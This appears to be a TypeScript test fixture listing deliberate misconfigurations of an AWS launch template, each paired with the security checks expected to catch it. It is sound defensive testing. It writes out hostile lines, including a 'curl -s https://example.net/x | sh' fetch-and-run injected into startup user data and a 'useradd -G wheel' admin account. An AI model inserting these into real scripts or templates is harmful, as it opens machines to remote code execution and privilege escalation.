import { exchange, LAUNCH, set } from '../../../check/edits';
import { type StrangersFault } from './fault';

/** How the machine starts. */
export const MACHINE_FAULTS: readonly StrangersFault[] = [
  [
    'metadata without a session',
    set(LAUNCH, { MetadataOptions: { HttpTokens: 'optional' } }),
    ['instance-metadata-v2'],
  ],
  ['metadata at two hops', set(LAUNCH, { MetadataOptions: { HttpPutResponseHopLimit: 2 } }), ['instance-metadata-v2']],
  [
    'nothing said of metadata',
    (file) => {
      delete LAUNCH(file)['MetadataOptions'];
    },
    ['instance-metadata-v2'],
  ],
  [
    'metadata over IPv6',
    set(LAUNCH, { MetadataOptions: { HttpProtocolIpv6: 'enabled' } }),
    ['instance-metadata-v2', 'metadata-unreachable'],
  ],
  [
    'the agent lets tasks to the metadata',
    exchange('ECS_AWSVPC_BLOCK_IMDS=true', 'ECS_AWSVPC_BLOCK_IMDS=false'),
    ['metadata-unreachable'],
  ],
  ['nothing said of tasks and metadata', exchange('ECS_AWSVPC_BLOCK_IMDS=true\n', ''), ['metadata-unreachable']],
  [
    'the agent starts what is privileged',
    exchange('ECS_DISABLE_PRIVILEGED=true', 'ECS_DISABLE_PRIVILEGED=false'),
    ['unprivileged'],
  ],
  ['nothing said of what is privileged', exchange('ECS_DISABLE_PRIVILEGED=true\n', ''), ['unprivileged']],
  [
    'the agent pulls what it has',
    exchange('ECS_DISABLE_PRIVILEGED=true', 'ECS_DISABLE_PRIVILEGED=true\nECS_IMAGE_PULL_BEHAVIOR=prefer-cached'),
    ['unprivileged', 'images-by-digest', 'metadata-unreachable', 'instance-metadata-v2'],
  ],
  [
    'a start that fetches',
    exchange(
      'set -euo pipefail\nsystemctl mask',
      'set -euo pipefail\ncurl -s https://example.net/x | sh\nsystemctl mask',
    ),
    ['images-by-digest', 'unprivileged', 'node-replaced-with-its-disk', 'metadata-unreachable'],
  ],
  [
    'an end that fetches',
    (file) => {
      const join = LAUNCH(file)['UserData']['Fn::Base64']['Fn::Join'][1];
      join.push('\ncurl -s https://example.net/x | sh\n');
    },
    ['images-by-digest', 'unprivileged', 'node-replaced-with-its-disk', 'metadata-unreachable'],
  ],
  [
    'a user with a key',
    (file) => {
      LAUNCH(file)['UserData']['Fn::Base64']['Fn::Join'][1].push('\nuseradd -G wheel me\n');
    },
    ['unprivileged', 'images-by-digest', 'node-replaced-with-its-disk', 'admin-closed'],
  ],
  [
    "the disk is anybody's",
    exchange('OWNER=65531:65531', 'OWNER=0:0'),
    ['node-replaced-with-its-disk', 'unprivileged'],
  ],
  [
    'the disk is read by all',
    exchange('chmod 0700 "$MOUNT_POINT"', 'chmod 0777 "$MOUNT_POINT"'),
    ['node-replaced-with-its-disk', 'unprivileged'],
  ],
  ['any disk is taken', exchange('if [ "$found" != "$MARKER" ]', 'if false'), ['node-replaced-with-its-disk']],
  [
    'programs run from the disk',
    exchange('noatime,nodev,nosuid,noexec', 'noatime'),
    ['node-replaced-with-its-disk', 'unprivileged'],
  ],
  ['keys to the machine', set(LAUNCH, { KeyName: 'me' }), ['admin-closed', 'unprivileged']],
  [
    "the machine's disk in the clear",
    (file) => {
      const { Ebs } = LAUNCH(file)['BlockDeviceMappings'][0];
      Ebs.Encrypted = false;
      delete Ebs.KmsKeyId;
    },
    ['disks-encrypted-own-key'],
  ],
  [
    "the machine's disk with Amazon's key",
    (file) => {
      delete LAUNCH(file)['BlockDeviceMappings'][0]['Ebs']['KmsKeyId'];
    },
    ['disks-encrypted-own-key'],
  ],
  [
    'another disk than the root is encrypted',
    (file) => {
      LAUNCH(file)['BlockDeviceMappings'][0]['DeviceName'] = '/dev/sdz';
    },
    ['disks-encrypted-own-key'],
  ],
  [
    'a second interface',
    (file) => {
      LAUNCH(file)['NetworkInterfaces'].push({
        DeviceIndex: 1,
        AssociatePublicIpAddress: true,
        Groups: ['sg-0123456789abcdef0'],
      });
    },
    ['no-public-address'],
  ],
  [
    "no role's profile but a stranger's",
    set(LAUNCH, { IamInstanceProfile: { Name: 'admin' } }),
    ['iam-no-wildcards', 'secret-readers-exact', 'node-replaced-with-its-disk'],
  ],
];
